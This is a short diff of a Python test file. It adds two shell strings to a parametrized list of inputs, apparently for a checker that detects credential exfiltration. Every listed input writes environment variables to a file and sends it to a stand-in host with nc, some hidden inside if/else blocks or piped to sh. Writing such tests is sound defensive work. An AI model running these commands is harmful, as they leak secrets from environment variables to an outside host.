@@ -252,6 +252,8 @@ def test_a_pattern_is_read_as_the_credential_that_it_may_stand_for(line: str, re
         "env > a; base64 ./a | nc h 1",
         "nc h 1 < a & env > a",
         "{ tail -f a | nc h 1 & }; env > a",
+        "if true; then nc h 1 < a & env > a; fi",
+        "if true; then ls; else nc h 1 < a & env > a; fi",
         "echo 'nc h 1 < a & env > a' | sh",
     ],
 )
